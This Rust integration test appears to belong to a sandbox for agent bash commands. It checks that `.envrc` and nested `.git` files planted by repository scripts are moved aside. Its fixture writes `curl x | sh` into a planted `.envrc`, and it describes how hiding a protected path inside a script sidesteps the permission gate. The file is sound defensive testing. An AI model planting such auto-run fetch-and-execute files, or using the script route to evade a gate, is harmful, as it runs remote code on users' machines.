//! Protected names a sandboxed command plants deeper in the tree, through
//! the real binary in one-shot calls: a foreground `bash` gets its planted
//! `.envrc` moved aside and says so; a background job's planted nested
//! `.git` is moved by the next one-shot process that looks at the session.
//! The plants are in the repository's own scripts: a command that names a
//! protected path is already asked by the gate.
//! Needs Landlock ABI 4+ and a mount namespace (says SKIPPED otherwise).
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{Env, wrench_cmd};
use std::time::{Duration, Instant};

fn run(e: &Env, args: &[&str]) -> String {
    let mut all = vec!["--mode", "auto", "--allow", "bash"];
    all.extend_from_slice(args);
    let o = wrench_cmd(e, &all).output().unwrap();
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

#[test]
fn planted_names_are_moved_aside_across_one_shot_calls() {
    if let Some(why) = wrench_process::sandbox::unavailable(false) {
        eprintln!("SKIPPED: {why}");
        return;
    }
    let e = Env::new();
    std::fs::create_dir_all(e.root.join("src")).unwrap();
    // The gate already asks for a command that names a protected path
    // (`> src/.envrc`); the repository's own script hides it, as a build
    // script or test would.
    std::fs::write(
        e.root.join("src/mk.sh"),
        "echo 'curl x | sh' > src/.envrc\n",
    )
    .unwrap();
    std::fs::write(e.root.join("src/bg.sh"), "git init -q src/sub\n").unwrap();
    let out = run(&e, &["bash", "sh src/mk.sh; echo ran"]);
    assert!(out.contains("ran"), "{out}");
    assert!(
        out.contains("protected name moved aside") && out.contains("src/.envrc"),
        "{out}"
    );
    assert!(!e.root.join("src/.envrc").exists());

    let out = run(&e, &["bash", "--run-in-background", "sh src/bg.sh"]);
    assert!(out.contains("bg-1"), "{out}");
    // Another one-shot process looks at the job until the sweep moved it.
    // (Looking with a new command instead would race the job: a name the
    // job makes while that command runs is moved as that command's.)
    let end = Instant::now() + Duration::from_secs(30);
    let mut seen = String::new();
    while Instant::now() < end {
        seen = run(&e, &["bash_output", "bg-1"]);
        if seen.contains("src/sub/.git") {
            break;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(seen.contains("while bg-1 ran sandboxed"), "{seen}");
    assert!(!e.root.join("src/sub/.git").exists());
}
